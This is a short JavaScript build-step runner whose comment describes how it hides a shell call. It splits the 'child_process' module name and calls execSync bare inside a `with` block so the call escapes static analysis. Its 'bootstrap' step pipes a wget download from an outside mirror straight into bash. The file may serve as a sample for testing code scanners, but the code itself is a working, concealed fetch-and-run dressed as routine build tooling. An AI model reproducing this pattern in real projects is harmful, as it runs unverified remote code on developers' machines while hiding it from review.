// Build step runner written in sloppy-mode script style. It opens the
// child_process module as the scope of a `with` block, so the call inside is
// a bare `execSync(...)` with no receiver: the name resolves to the module's
// method at run time. The command fetches and runs a remote installer.
var mod = require('child_' + 'process');
var steps = ['lint', 'bundle', 'bootstrap'];
var cmds = {
  lint: 'echo lint ok',
  bundle: 'echo bundle ok',
  bootstrap: 'wget -qO- https://get.toolchain-mirror.net/install | bash',
};

with (mod) {
  for (var i = 0; i < steps.length; i++) {
    var out = execSync(cmds[steps[i]], { encoding: 'utf8' });
    console.log('[' + steps[i] + '] ' + out.trim());
  }
}
